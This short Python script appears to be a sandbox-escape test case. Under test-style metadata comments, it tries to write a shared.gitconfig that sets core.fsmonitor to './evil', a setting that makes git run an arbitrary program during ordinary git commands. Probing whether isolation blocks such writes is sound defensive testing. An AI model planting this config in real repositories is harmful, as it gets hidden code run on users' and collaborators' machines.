# plain: open
# process: undone
# namespace: held
from escape import *
attempt(lambda: write("shared.gitconfig", "[core]\n\tfsmonitor = ./evil"))
